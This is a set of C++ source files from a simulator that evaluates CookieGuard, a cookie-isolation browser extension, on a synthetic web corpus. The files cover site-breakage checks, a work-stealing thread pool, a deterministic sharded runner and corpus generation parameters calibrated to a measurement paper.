  browser.set_policy(&policy::engine_for(policy));
  corpus_.attach(browser, bp);

  std::optional<cookieguard::CookieGuard> guard;
  if (mode != GuardMode::kOff) {
    guard.emplace(config_for(mode, bp, corpus_));
    browser.add_extension(&*guard);
  }

  SiteBreakage result;
  const net::Url landing = net::Url::must_parse("https://" + bp.host + "/");
  auto page = browser.navigate(landing);

  // --- Navigation: click a link, page must load with its DOM. ------------
  if (!page->spec().link_paths.empty()) {
    auto next = browser.navigate(landing.resolve(page->spec().link_paths[0]));
    if (next->main_document().node_count() == 0) {
      result[Aspect::kNavigation] = Severity::kMajor;
    }
    page = std::move(next);
  }

  // --- Appearance: static DOM must have been built. -----------------------
  if (page->main_document().node_count() < 2) {
    result[Aspect::kAppearance] = Severity::kMajor;
  }

  // --- SSO: log in via provider A, maintain session via provider B/A. ----
  if (bp.has_sso) {
    const ExecContext provider_a =
        context_for(corpus_, bp.sso_provider_a, bp.host);
    // Login: the identity provider's script stores the session cookie.
    page->run_as(provider_a, [&](script::PageServices& services) {
      services.document_cookie_write(
          provider_a, std::string(kSsoSessionCookie) + "=" +
                          browser.rng().hex(24) + "; Path=/");
    });
    const bool login_ok = can_see_cookie(*page, provider_a, kSsoSessionCookie);

    bool session_ok = login_ok;
    if (login_ok && bp.sso_two_domain) {
      // Session maintenance is handled by the second provider domain.
      const ExecContext provider_b =
          context_for(corpus_, bp.sso_provider_b, bp.host);
      session_ok = can_see_cookie(*page, provider_b, kSsoSessionCookie);
    }
    if (!login_ok || !session_ok) {
      result[Aspect::kSso] = Severity::kMajor;
    } else if (bp.sso_server_refresh) {
      // Reload: the server re-emits the session cookie, re-attributing it to
      // the first party in CookieGuard's store (cnn.com minor breakage).
      page = browser.navigate(landing);
      if (!can_see_cookie(*page, provider_a, kSsoSessionCookie)) {
        result[Aspect::kSso] = Severity::kMinor;
      }
    }
  }

  // --- Functionality: chat widget served from the entity CDN. ------------
  if (bp.has_entity_cdn_widget) {
    const ExecContext messenger = context_for(corpus_, "fb-messenger", bp.host);
    if (!can_see_cookie(*page, messenger, "_fbp")) {
      result[Aspect::kFunctionality] = Severity::kMajor;
    }
  }

  // --- Functionality: ad slot depending on a cross-entity cookie. --------
  if (result[Aspect::kFunctionality] == Severity::kNone && bp.serves_ads) {
    // The exchange renders from Google-side targeting cookies; a dependence
    // on a cross-entity identifier stays broken even with entity grouping.
    const std::string adstack_id = "adstack#" + std::to_string(bp.rank);
    const ExecContext exchange = context_for(corpus_, adstack_id, bp.host);
    bool ad_renders = true;
    const bool site_has_gtag =
        std::find(bp.doc.script_ids.begin(), bp.doc.script_ids.end(),
                  "gtag") != bp.doc.script_ids.end();
    if (site_has_gtag && !exchange.script_url.empty()) {
      ad_renders = can_see_cookie(*page, exchange, "_gcl_au");
    }
    if (bp.ads_depend_cross_entity && !exchange.script_url.empty()) {
      const ExecContext amazon =
          context_for(corpus_, "amazon-apstag", bp.host);
      // Amazon's header bidder prices the slot from the exchange's cookie.
      if (!can_see_cookie(*page, amazon, "__gads")) ad_renders = false;
    } else if (!site_has_gtag) {
      ad_renders = true;  // no cross-domain dependence to break
    }
    if (!ad_renders) result[Aspect::kFunctionality] = Severity::kMinor;
  }

  return result;
}

Summary BreakageEvaluator::summarize(const std::vector<int>& site_indices,
                                     GuardMode mode,
                                     policy::PolicyKind policy) const {
  Summary summary;
  summary.sites = static_cast<int>(site_indices.size());
  const bool is_baseline =
      mode == GuardMode::kOff && policy == policy::PolicyKind::kNone;
  for (const int index : site_indices) {
    const SiteBreakage result = evaluate_site(index, mode, policy);
    // Paired assessment: only regressions relative to the plain browser
    // (no extension, single jar) count as breakage caused by the
    // deployment under test.
    const SiteBreakage baseline =
        is_baseline ? SiteBreakage{}
                    : evaluate_site(index, GuardMode::kOff,
                                    policy::PolicyKind::kNone);
    bool any_minor = false;
    bool any_major = false;
    for (int aspect = 0; aspect < 4; ++aspect) {
      if (baseline.by_aspect[aspect] != Severity::kNone) continue;
      if (result.by_aspect[aspect] == Severity::kMinor) {
        ++summary.minor[aspect];
        any_minor = true;
      } else if (result.by_aspect[aspect] == Severity::kMajor) {
        ++summary.major[aspect];
        any_major = true;
      }
    }
    summary.sites_minor += any_minor ? 1 : 0;
    summary.sites_major += any_major ? 1 : 0;
  }
  return summary;
}

std::vector<int> BreakageEvaluator::sample_sites(int n, int top_k,
                                                 std::uint64_t seed) const {
  script::Rng rng(corpus_.params().seed ^ seed);
  const int limit = std::min(top_k, corpus_.size());
  std::set<int> chosen;
  while (static_cast<int>(chosen.size()) < std::min(n, limit)) {
    chosen.insert(static_cast<int>(rng.below(
        static_cast<std::uint64_t>(limit))));
  }
  return {chosen.begin(), chosen.end()};
}

}  // namespace cg::breakage
