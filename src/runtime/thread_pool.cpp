#include "runtime/thread_pool.h"

#include <utility>

namespace cg::runtime {
namespace {

// cglint: allow(D4) — DESIGN.md §7: thread-confined worker index for current_worker(); written once per pool thread at spawn, never shared, never crawl-visible
thread_local int tls_worker_index = -1;

}  // namespace

int ThreadPool::hardware_threads() {
  const unsigned n = std::thread::hardware_concurrency();
  return n == 0 ? 1 : static_cast<int>(n);
}

int ThreadPool::current_worker() { return tls_worker_index; }

ThreadPool::ThreadPool(int threads, bool start_paused)
    : started_(!start_paused) {
  const int n = threads > 0 ? threads : hardware_threads();
  queues_.resize(static_cast<std::size_t>(n));
  stats_.resize(static_cast<std::size_t>(n));
  threads_.reserve(static_cast<std::size_t>(n));
  for (int i = 0; i < n; ++i) {
    threads_.emplace_back([this, i] { worker_loop(i); });
  }
}

ThreadPool::~ThreadPool() {
  start();  // a still-paused pool must drain its backlog before joining
  wait_idle();
  {
    std::lock_guard<std::mutex> lock(mu_);
    stop_ = true;
  }
  work_cv_.notify_all();
  for (auto& thread : threads_) thread.join();
}

void ThreadPool::start() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (started_) return;
    started_ = true;
  }
  work_cv_.notify_all();
}

void ThreadPool::submit(Task task) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    queues_[next_queue_].push_back(std::move(task));
    next_queue_ = (next_queue_ + 1) % queues_.size();
    ++pending_;
  }
  work_cv_.notify_one();
}

void ThreadPool::submit_to(int worker, Task task) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    queues_[static_cast<std::size_t>(worker) % queues_.size()].push_back(
        std::move(task));
    ++pending_;
  }
  work_cv_.notify_one();
}

void ThreadPool::wait_idle() {
  std::unique_lock<std::mutex> lock(mu_);
  idle_cv_.wait(lock, [this] { return pending_ == 0; });
}

bool ThreadPool::take_task(int self, Task& out) {
  auto& own = queues_[static_cast<std::size_t>(self)];
  if (!own.empty()) {
    out = std::move(own.front());
    own.pop_front();
    ++stats_[static_cast<std::size_t>(self)].executed;
    return true;
  }
  // Steal the oldest task of the first busy victim. Oldest-first keeps each
  // deque draining in submission order (see header contract).
  for (std::size_t k = 1; k < queues_.size(); ++k) {
    auto& victim =
        queues_[(static_cast<std::size_t>(self) + k) % queues_.size()];
    if (!victim.empty()) {
      out = std::move(victim.front());
      victim.pop_front();
      ++stats_[static_cast<std::size_t>(self)].executed;
      ++stats_[static_cast<std::size_t>(self)].stolen;
      return true;
    }
  }
  return false;
}

std::vector<ThreadPool::WorkerStats> ThreadPool::worker_stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

void ThreadPool::worker_loop(int self) {
  tls_worker_index = self;
  std::unique_lock<std::mutex> lock(mu_);
  for (;;) {
    Task task;
    if (started_ && take_task(self, task)) {
      lock.unlock();
      task();
      task = nullptr;  // release captured state before reporting completion
      lock.lock();
      if (--pending_ == 0) idle_cv_.notify_all();
      continue;
    }
    if (stop_) return;
    work_cv_.wait(lock);
  }
}

}  // namespace cg::runtime
