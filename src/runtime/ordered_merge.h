// Bounded reorder window between out-of-order producers and one in-order
// consumer — the backpressure half of the deterministic merge.
//
// Shard workers finish sites in whatever order scheduling produces; the
// merger must consume them in site-index order. Finished results wait in a
// window of at most `capacity` slots ahead of the merge cursor, so fast
// workers block instead of accumulating an unbounded buffer of VisitLogs
// while a slow site holds the cursor back. Admission always accepts the
// cursor's own index, so capacity 1 degrades to lockstep, never deadlock.
#pragma once

#include <algorithm>
#include <condition_variable>
#include <cstdint>
#include <exception>
#include <map>
#include <mutex>
#include <utility>

namespace cg::runtime {

/// Occupancy/backpressure counters for scheduler tuning. Like the pool's
/// WorkerStats these are diagnostics — they vary with thread count and
/// timing and must never feed deterministic output. (Namespace-scope so the
/// type is shared across OrderedMergeBuffer instantiations.)
struct MergeBufferStats {
  std::int64_t pushes = 0;          // items admitted
  std::int64_t blocked_pushes = 0;  // pushes that hit backpressure
  std::int64_t max_occupancy = 0;   // high-water mark of waiting items
};

template <typename T>
class OrderedMergeBuffer {
 public:
  using Stats = MergeBufferStats;

  /// Window admitting indices in [next, next + capacity) where `next`
  /// starts at `first` and advances on every pop.
  OrderedMergeBuffer(int first, int capacity)
      : next_(first), capacity_(capacity < 1 ? 1 : capacity) {}

  /// Hands a finished item to the merger. Blocks while `index` is outside
  /// the admission window (backpressure). Returns false if the run was
  /// aborted — the producer should stop.
  bool push(int index, T&& value) {
    std::unique_lock<std::mutex> lock(mu_);
    if (!failed_ && index >= next_ + capacity_) ++stats_.blocked_pushes;
    space_cv_.wait(lock,
                   [&] { return failed_ || index < next_ + capacity_; });
    if (failed_) return false;
    ready_.emplace(index, std::move(value));
    ++stats_.pushes;
    stats_.max_occupancy = std::max(
        stats_.max_occupancy, static_cast<std::int64_t>(ready_.size()));
    if (index == next_) ready_cv_.notify_one();
    return true;
  }

  /// Removes and returns the next item in index order. Blocks until it
  /// arrives; rethrows the producer's exception if the run was aborted.
  T pop() {
    std::unique_lock<std::mutex> lock(mu_);
    ready_cv_.wait(lock, [&] {
      return failed_ || (!ready_.empty() && ready_.begin()->first == next_);
    });
    if (failed_) std::rethrow_exception(error_);
    T value = std::move(ready_.begin()->second);
    ready_.erase(ready_.begin());
    ++next_;
    space_cv_.notify_all();
    return value;
  }

  /// Aborts the run: blocked producers bail out of push(), the consumer
  /// rethrows `error` from pop(). First error wins; later ones are dropped.
  void fail(std::exception_ptr error) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      if (!failed_) {
        failed_ = true;
        error_ = std::move(error);
      }
    }
    ready_cv_.notify_all();
    space_cv_.notify_all();
  }

  bool failed() const {
    std::lock_guard<std::mutex> lock(mu_);
    return failed_;
  }

  Stats stats() const {
    std::lock_guard<std::mutex> lock(mu_);
    return stats_;
  }

 private:
  mutable std::mutex mu_;
  std::condition_variable ready_cv_;  // consumer waits for next_
  std::condition_variable space_cv_;  // producers wait for window space
  std::map<int, T> ready_;
  Stats stats_;
  int next_;
  int capacity_;
  bool failed_ = false;
  std::exception_ptr error_;
};

}  // namespace cg::runtime
