// Work-stealing thread pool: the execution layer under the sharded crawl.
//
// Each worker owns a deque of tasks. Owners pop from the front; an idle
// worker steals from the front of another worker's deque (oldest task
// first). Front-stealing keeps every deque's tasks executing in submission
// order, which the sharded runner's deterministic merge relies on for its
// no-deadlock guarantee (see sharded_runner.h). A single mutex guards the
// deques — crawl tasks are milliseconds each, so scheduling is never the
// bottleneck — and condition variables put idle workers to sleep.
//
// Tasks must not throw: exception routing is the caller's job (the sharded
// runner catches inside the task and reports through its merge buffer).
#pragma once

#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace cg::runtime {

class ThreadPool {
 public:
  using Task = std::function<void()>;

  /// Per-worker scheduling counters. `executed` counts every task the
  /// worker ran; `stolen` counts the subset it took from another worker's
  /// deque. Sum of `executed` across workers == tasks submitted (asserted
  /// in runtime_test.cpp). Values are scheduler diagnostics: they vary
  /// run-to-run and must never feed deterministic output.
  struct WorkerStats {
    std::int64_t executed = 0;
    std::int64_t stolen = 0;
  };

  /// `threads` <= 0 means hardware_threads(). With `start_paused` the
  /// workers exist but execute nothing until start() — submitters can
  /// pre-distribute a whole workload before the first task runs.
  explicit ThreadPool(int threads = 0, bool start_paused = false);
  ~ThreadPool();  // waits for every submitted task, then joins

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  int size() const { return static_cast<int>(threads_.size()); }

  /// Releases a paused pool. No-op if already running.
  void start();

  /// Enqueues on the next worker round-robin.
  void submit(Task task);
  /// Enqueues on a specific worker's deque (modulo size). The task still
  /// runs on whichever worker gets to it first — placement is a locality
  /// hint, stealing rebalances.
  void submit_to(int worker, Task task);

  /// Blocks until every submitted task has finished.
  void wait_idle();

  /// Snapshot of per-worker counters. Consistent (taken under the pool
  /// lock) but only meaningful as a total once the pool is idle.
  std::vector<WorkerStats> worker_stats() const;

  /// std::thread::hardware_concurrency, but never 0.
  static int hardware_threads();
  /// Index of the pool worker running the current thread, -1 off-pool.
  static int current_worker();

 private:
  void worker_loop(int self);
  bool take_task(int self, Task& out);  // requires mu_ held

  mutable std::mutex mu_;
  std::condition_variable work_cv_;
  std::condition_variable idle_cv_;
  std::vector<std::deque<Task>> queues_;
  std::vector<WorkerStats> stats_;  // guarded by mu_, one slot per worker
  std::vector<std::thread> threads_;
  std::size_t next_queue_ = 0;  // round-robin submit cursor
  std::size_t pending_ = 0;     // submitted, not yet finished
  bool started_ = true;
  bool stop_ = false;
};

}  // namespace cg::runtime
