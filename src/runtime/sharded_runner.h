// Sharded parallel executor with a deterministic, in-order merge.
//
// Partitions an index range [first, last) into fixed-size blocks of
// consecutive indices, runs them on a work-stealing ThreadPool, and hands
// each result to a merge callback on the *calling* thread in strictly
// increasing index order. Because the merge is a pure in-order fold, an
// N-thread run produces byte-identical output to a 1-thread run whenever
// the per-index work is itself order-independent (the crawl is: every
// site's seed, clock, and fault schedule derive from its index alone).
//
// Deadlock-freedom of the bounded window: blocks are pre-distributed
// round-robin before the pool starts, so each worker's deque holds its
// blocks in ascending index order; owners pop front-first and thieves
// steal front-first (thread_pool.h), so the block containing the merge
// cursor is always the next block somebody executes, and the window always
// admits the cursor's index. Any window capacity >= 1 therefore makes
// progress — backpressure can slow producers, never wedge them.
#pragma once

#include <algorithm>
#include <exception>
#include <utility>

#include "runtime/ordered_merge.h"
#include "runtime/thread_pool.h"

namespace cg::runtime {

struct ShardOptions {
  /// Worker threads; <= 0 means hardware_threads().
  int threads = 0;
  /// Consecutive indices per shard block. Bigger blocks amortize scheduling
  /// but coarsen stealing granularity.
  int block_size = 8;
  /// Bounded reorder window between workers and the merger, in results.
  /// <= 0 picks 2 * threads * block_size.
  int queue_capacity = 0;
};

class ShardedRunner {
 public:
  /// Scheduler diagnostics for the most recent completed run(): per-worker
  /// execute/steal counts plus merge-window occupancy and backpressure.
  /// Everything here varies with thread count and OS scheduling — report it
  /// on a diagnostics channel, never in deterministic output.
  struct RunStats {
    std::vector<ThreadPool::WorkerStats> workers;
    MergeBufferStats merge;

    std::int64_t total_executed() const {
      std::int64_t n = 0;
      for (const auto& w : workers) n += w.executed;
      return n;
    }
    std::int64_t total_stolen() const {
      std::int64_t n = 0;
      for (const auto& w : workers) n += w.stolen;
      return n;
    }
  };

  explicit ShardedRunner(ShardOptions options = {})
      : options_(options),
        threads_(options.threads > 0 ? options.threads
                                     : ThreadPool::hardware_threads()) {}

  int threads() const { return threads_; }

  /// Runs `worker(index, pool_worker)` for every index in [first, last) on
  /// the pool and calls `merge(index, result)` on the calling thread in
  /// index order. `worker` runs concurrently and must only touch state
  /// owned by its `pool_worker` slot; `merge` never runs concurrently with
  /// itself. An exception from either side aborts the run, joins the
  /// workers, and rethrows on the calling thread.
  template <typename Result, typename WorkerFn, typename MergeFn>
  void run(int first, int last, WorkerFn&& worker, MergeFn&& merge) {
    if (last <= first) return;
    const int block = std::max(options_.block_size, 1);
    const int capacity = options_.queue_capacity > 0
                             ? options_.queue_capacity
                             : 2 * threads_ * block;
    OrderedMergeBuffer<Result> window(first, capacity);
    ThreadPool pool(threads_, /*start_paused=*/true);  // joins before window dies

    int next_worker = 0;
    for (int start = first; start < last; start += block) {
      const int end = std::min(start + block, last);
      pool.submit_to(next_worker++, [&window, &worker, start, end] {
        for (int index = start; index < end; ++index) {
          if (window.failed()) return;
          try {
            if (!window.push(index,
                             worker(index, ThreadPool::current_worker()))) {
              return;
            }
          } catch (...) {
            window.fail(std::current_exception());
            return;
          }
        }
      });
    }
    pool.start();

    try {
      for (int index = first; index < last; ++index) {
        merge(index, window.pop());
      }
    } catch (...) {
      // Covers merge() throwing and pop() rethrowing a worker error: wake
      // every blocked producer so the pool can join during unwinding.
      window.fail(std::current_exception());
      throw;
    }

    // All results are merged; wait for the trailing task returns so the
    // counters are a complete account of the run.
    pool.wait_idle();
    last_stats_.workers = pool.worker_stats();
    last_stats_.merge = window.stats();
  }

  /// Diagnostics for the last successful run() (empty before the first).
  const RunStats& last_run_stats() const { return last_stats_; }

 private:
  ShardOptions options_;
  int threads_;
  RunStats last_stats_;
};

}  // namespace cg::runtime
