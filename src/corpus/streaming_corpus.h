// On-demand site generation: the O(shards)-memory corpus provider.
//
// A materialized Corpus holds every blueprint and every per-site script
// spec for its whole lifetime — fine at 20k sites, ~10 GB of blueprints at
// 1M. StreamingCorpus keeps only the shared state (the vendor ecosystem and
// its catalog, a few hundred specs) and generates each site's blueprint +
// per-site spec overlay at site_visit() time, dropping both when the
// caller's SiteVisit goes out of scope. Crawl memory becomes O(concurrent
// visits), independent of site_count.
//
// Byte-identity with Corpus is a hard contract (tests/corpus_test.cpp
// crawls both providers and compares visit logs):
//   * per-site RNG: Corpus forks rank r as the master stream's r-th fork;
//     Rng::fork_at(seed, r-1, r) reproduces that fork in O(1), so
//     generation is pure in (seed, rank) at any access order.
//   * catalogs: Corpus registers per-site specs into one global catalog and
//     applies defer_cross_actions to everything once, after generation.
//     StreamingCorpus keeps TWO shared catalogs: `raw_` (exactly as
//     build_ecosystem left it) for generation — so an ad stack copying
//     gpt-core's ops copies the *untransformed* ops, as the materialized
//     path does — and `cooked_` (raw + defer_cross_actions) for browser
//     resolution. Each visit's overlay is generated against raw_,
//     transformed once, then re-parented onto cooked_.
#pragma once

#include <memory>

#include "browser/catalog.h"
#include "corpus/corpus_view.h"
#include "corpus/ecosystem.h"
#include "corpus/params.h"

namespace cg::corpus {

class StreamingCorpus : public CorpusView {
 public:
  explicit StreamingCorpus(CorpusParams params = {});

  StreamingCorpus(const StreamingCorpus&) = delete;
  StreamingCorpus& operator=(const StreamingCorpus&) = delete;

  int size() const override { return params_.site_count; }
  const CorpusParams& params() const override { return params_; }
  const entities::EntityMap& entities() const override {
    return entities::EntityMap::builtin();
  }

  /// Generates blueprint + per-site overlay for `index` on the spot.
  /// Thread-safe (the shared catalogs are immutable after construction)
  /// and pure in (params, index).
  SiteVisit site_visit(int index) const override;

  const Ecosystem& ecosystem() const { return ecosystem_; }
  /// The untransformed vendor catalog generation runs against (wave
  /// evolution generates against the same one).
  const browser::ScriptCatalog& raw_catalog() const { return raw_; }
  /// The defer_cross_actions-transformed catalog browsers resolve against.
  const browser::ScriptCatalog& cooked_catalog() const { return cooked_; }

 private:
  CorpusParams params_;
  browser::ScriptCatalog raw_;
  browser::ScriptCatalog cooked_;
  Ecosystem ecosystem_;
};

}  // namespace cg::corpus
