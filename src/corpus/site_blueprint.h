// Per-site composition: everything the generator decided about one site.
#pragma once

#include <string>
#include <vector>

#include "browser/document_spec.h"

namespace cg::corpus {

struct SiteBlueprint {
  int rank = 0;            // 1-based Tranco-style rank
  /// Churn generation of the occupant of this rank slot (src/evolve/):
  /// 0 is the original site; g > 0 is the g-th replacement, hosted at
  /// "www.site{rank}g{g}.{tld}".
  int generation = 0;
  std::string host;        // e.g. "www.site123.com"
  std::string site;        // eTLD+1

  browser::DocumentSpec doc;

  /// Set-Cookie header *templates* the server sends on document requests
  /// (placeholders expanded per visit).
  std::vector<std::string> http_cookie_templates;

  // ---- features the breakage evaluation (Table 3) probes -----------------
  bool has_sso = false;
  /// Two different provider domains share the session (zoom.us pattern).
  bool sso_two_domain = false;
  std::string sso_provider_a;  // catalog id
  std::string sso_provider_b;  // catalog id ("" for single-domain SSO)
  /// Server re-sets the SSO session cookie on reload (cnn.com pattern —
  /// minor breakage under CookieGuard).
  bool sso_server_refresh = false;
  /// Same-entity CDN widget pair (facebook.com/fbcdn.net pattern).
  bool has_entity_cdn_widget = false;
  bool serves_ads = false;
  /// The ad slot visibly depends on a cross-entity targeting cookie —
  /// CookieGuard hides it even with entity grouping (minor functionality
  /// breakage, Table 3).
  bool ads_depend_cross_entity = false;
  bool has_chat = false;
  bool uses_cookie_store = false;
  /// CNAME-cloaked tracker (§8): served from `cloaked_host`, a subdomain of
  /// the site, which CNAMEs to collect.cloaktrack.net.
  bool has_cloaked_tracker = false;
  std::string cloaked_host;
  /// Site inlines a verbatim copy of the gtag snippet (§8).
  bool has_inline_tracker = false;
  /// First-party cookie names this site's own script sets.
  std::vector<std::string> fp_cookie_names;
};

}  // namespace cg::corpus
