// All tunable rates of the synthetic web corpus in one place.
//
// These constants are calibrated so the population statistics of the
// generated 20k sites land near the paper's measurement results (§5).
// EXPERIMENTS.md records paper-vs-measured for every number.
#pragma once

#include <cstdint>

namespace cg::corpus {

struct CorpusParams {
  /// Number of sites (paper: Tranco top 20,000).
  int site_count = 20000;
  /// Master seed; every random decision derives from it.
  std::uint64_t seed = 0xC00C1EULL;

  // ---- composition rates -------------------------------------------------

  /// P(site embeds at least one third-party script in the main frame)
  /// — paper §5.1: 93.3%.
  double third_party_presence = 0.933;
  /// P(site's own markup contains an inline script).
  double inline_script_rate = 0.35;
  /// P(site uses Google Tag Manager, which then injects more vendors).
  double gtm_rate = 0.52;
  /// Mean number of vendors a GTM container injects (±spread).
  int gtm_inject_min = 2;
  int gtm_inject_max = 8;
  /// P(site runs an ad stack: GPT exchange + injected RTB bidders).
  double ad_stack_rate = 0.143;
  int rtb_bidders_min = 2;
  int rtb_bidders_max = 5;
  /// P(a ga-legacy deployment ships the whole jar via custom dimensions).
  double ga_dims_rate = 0.07;
  /// P(an RTB bid request carries the whole jar rather than known names).
  double rtb_whole_jar_rate = 0.10;
  /// Number of additional long-tail vendors sampled per site.
  int tail_min = 3;
  int tail_max = 26;
  /// Size of the long-tail vendor population.
  int tail_vendor_count = 400;

  /// P(consent manager present) and P(visitor declines marketing cookies,
  /// triggering the manager's delete pass).
  double consent_manager_rate = 0.30;
  double consent_decline_rate = 0.17;

  /// SSO widget rates (drives Table 3): single-provider vs the two-domain
  /// flows (zoom.us-style microsoft.com+live.com) that break under strict
  /// isolation.
  double sso_rate = 0.17;
  double sso_two_domain_share = 0.70;
  /// P(first-party server refreshes the SSO session cookie on reload —
  /// the cnn.com-style minor-breakage mechanism).
  double sso_server_refresh_share = 0.10;

  /// P(site serves a CNAME-cloaked tracker from a first-party subdomain —
  /// the §8 evasion; attribution sees the first party unless uncloaked).
  double cname_cloaking_rate = 0.04;
  /// P(site inlines a well-known vendor snippet verbatim — denied by
  /// CookieGuard's default policy unless signature matching is enabled, §8).
  double inline_tracker_rate = 0.025;

  /// P(site embeds the same-entity-CDN widget pair, facebook.com/fbcdn.net
  /// style: breaks without entity grouping).
  double entity_cdn_widget_rate = 0.035;

  /// Shopify performance SDK (cookieStore keep_alive) and Admiral (_awl,
  /// per-site hosting domains) — §5.2 cookieStore users.
  double shopify_rate = 0.019;
  double admiral_rate = 0.015;

  /// P(a site with no third-party scripts whose own bundle also avoids
  /// cookies — yields the paper's 3.7% of sites never touching
  /// document.cookie).
  double fp_cookieless_rate = 0.85;

  // ---- first-party behaviour --------------------------------------------

  int fp_cookies_min = 2;
  int fp_cookies_max = 6;
  /// P(first-party script deletes tracker cookies itself — the
  /// prettylittlething.com pattern). Site-owner actions survive CookieGuard
  /// (full-access policy), so these drive Figure 5's residual bars.
  double fp_tracker_cleanup_rate = 0.012;
  /// P(site proxies tracker identifiers through its own backend —
  /// server-side GTM, §5.7; bypasses CookieGuard by design).
  double fp_server_gtm_rate = 0.13;
  /// P(site's own script rewrites third-party cookies, e.g. consent resets).
  double fp_overwrite_rate = 0.085;

  // ---- crawl --------------------------------------------------------------

  /// Paper §4.2: scroll + up to three random link clicks, 2 s pauses.
  int max_clicks = 3;
  std::int64_t interaction_pause_ms = 2000;
  /// P(a visit loses one of its log channels — models the paper's
  /// incomplete-data sites: 14,917/20,000 retained).
  double log_loss_rate = 0.25;
};

}  // namespace cg::corpus
