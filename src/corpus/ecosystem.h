// The third-party vendor ecosystem: catalog scripts modelled on the vendors
// the paper names (Tables 2 and 5, §5.2, §5.4 case studies), plus a
// long-tail population of generic ad/widget vendors.
#pragma once

#include <string>
#include <utility>
#include <vector>

#include "browser/catalog.h"
#include "corpus/params.h"
#include "script/exec_context.h"

namespace cg::corpus {

/// Sampling metadata for one vendor script.
struct VendorInfo {
  std::string id;
  script::Category category = script::Category::kAdvertising;
  /// P(directly included | site has third-party scripts).
  double direct_rate = 0.0;
  /// Relative weight for Google-Tag-Manager injection (0 = never injected).
  double gtm_weight = 0.0;
};

/// The built ecosystem: a catalog of global ScriptSpecs plus the pools the
/// site generator samples from.
struct Ecosystem {
  /// Vendors eligible for direct inclusion / GTM injection.
  std::vector<VendorInfo> vendors;
  /// RTB bidder ids injected by the ad exchange (GPT) container.
  std::vector<std::string> rtb_bidder_ids;
  /// Consent-manager ids with their market share; each id also has an
  /// "<id>+decline" variant that runs the tracker-deletion pass.
  std::vector<std::pair<std::string, double>> consent_managers;
  /// Long-tail vendor ids.
  std::vector<std::string> tail_ids;
};

/// Populates `catalog` with every global vendor spec and returns the
/// sampling pools. Deterministic given `params`.
Ecosystem build_ecosystem(const CorpusParams& params,
                          browser::ScriptCatalog& catalog);

/// Resolves a catalog script's URL on a given site host ("{site}" expanded).
std::string resolve_script_url(const browser::ScriptCatalog& catalog,
                               const std::string& id,
                               const std::string& site_host);

}  // namespace cg::corpus
