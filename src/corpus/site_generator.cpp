#include "corpus/site_generator.h"

#include <algorithm>
#include <set>

#include "net/psl.h"

namespace cg::corpus {
namespace {

using script::Category;
using script::Encoding;
using script::ScriptOp;
using script::ScriptSpec;

const char* kTlds[] = {"com", "com", "com", "com", "com", "com", "net",
                       "org", "io",  "co",  "de",  "fr",  "ru",  "jp",
                       "co.uk", "com.au", "shop", "news"};

// First-party cookie name pool. Generic names (user_id, cookie_test,
// visitor_id) are the collision victims of §5.5; hex-valued ones carry
// identifier-length values and are therefore exfiltratable via RTB
// whole-jar requests.
struct FpCookieTemplate {
  const char* name;
  const char* value_template;
  const char* attributes;
};
const FpCookieTemplate kFpCookiePool[] = {
    {"session_ref", "{hex:16}", "; Path=/"},
    {"user_prefs", "compact", "; Path=/; Max-Age=31536000"},
    {"ab_bucket", "{rand:10}", "; Path=/; Max-Age=604800"},
    {"cart_id", "{hex:20}", "; Path=/"},
    {"visitor_id", "{hex:16}", "; Path=/; Max-Age=63072000"},
    {"cookie_test", "1", "; Path=/"},
    {"user_id", "{rand:10}", "; Path=/; Max-Age=31536000"},
    {"promo_seen", "{ts}", "; Path=/; Max-Age=2592000"},
    {"theme", "light", "; Path=/; Max-Age=31536000"},
    {"locale", "en", "; Path=/; Max-Age=31536000"},
    {"csrf_token", "{hex:24}", "; Path=/"},
    {"recently_viewed", "{rand:8}x{rand:8}", "; Path=/; Max-Age=604800"},
};

// Samples `count` distinct ids from `pool` weighted by `weight(v)`.
template <typename Weight>
std::vector<std::string> sample_weighted(const std::vector<VendorInfo>& pool,
                                         int count, script::Rng& rng,
                                         Weight weight,
                                         const std::set<std::string>& exclude) {
  std::vector<std::string> out;
  double total = 0;
  std::vector<double> weights;
  weights.reserve(pool.size());
  for (const auto& v : pool) {
    const double w = exclude.count(v.id) != 0 ? 0.0 : weight(v);
    weights.push_back(w);
    total += w;
  }
  std::set<std::string> taken;
  for (int i = 0; i < count && total > 0; ++i) {
    double roll = rng.uniform() * total;
    for (std::size_t j = 0; j < pool.size(); ++j) {
      if (weights[j] <= 0) continue;
      roll -= weights[j];
      if (roll <= 0) {
        out.push_back(pool[j].id);
        total -= weights[j];
        weights[j] = 0;
        break;
      }
    }
  }
  return out;
}

}  // namespace

// Builds the site's first-party application bundle.
ScriptSpec make_fp_bundle(int rank, script::Rng& rng,
                          const CorpusParams& params, bool cookieless,
                          std::vector<std::string>& fp_cookie_names) {
  ScriptSpec spec;
  spec.id = "fp#" + std::to_string(rank);
  spec.url_template = "https://{site}/assets/app.js";
  spec.category = Category::kFirstParty;
  if (cookieless) {
    // A purely static bundle: no cookie API use at all (with no third-party
    // scripts either, such sites are the paper's ~3.7% of sites where
    // document.cookie is never invoked).
    spec.ops = {script::create_dom("div"), script::create_dom("section")};
    return spec;
  }

  const int n = static_cast<int>(rng.between(
      static_cast<std::uint64_t>(params.fp_cookies_min),
      static_cast<std::uint64_t>(params.fp_cookies_max)));
  std::set<std::size_t> chosen;
  while (static_cast<int>(chosen.size()) < n) {
    chosen.insert(rng.below(std::size(kFpCookiePool)));
  }
  for (const auto index : chosen) {
    const auto& t = kFpCookiePool[index];
    fp_cookie_names.emplace_back(t.name);
    spec.ops.push_back(script::set_cookie(t.name, t.value_template,
                                          t.attributes,
                                          /*only_if_missing=*/false));
  }
  spec.ops.push_back(script::read_cookies());
  if (rng.chance(0.4)) {
    spec.ops.push_back(script::exfiltrate(fp_cookie_names, "{site}",
                                          Encoding::kRaw, "/api/telemetry"));
  }
  if (rng.chance(params.fp_server_gtm_rate)) {
    // Server-side GTM (§5.7): the site's own script proxies tracker
    // identifiers through a first-party endpoint. Cross-domain by the
    // paper's definition, and allowed under CookieGuard's site-owner
    // policy — a residual Figure-5 bar the paper calls out explicitly.
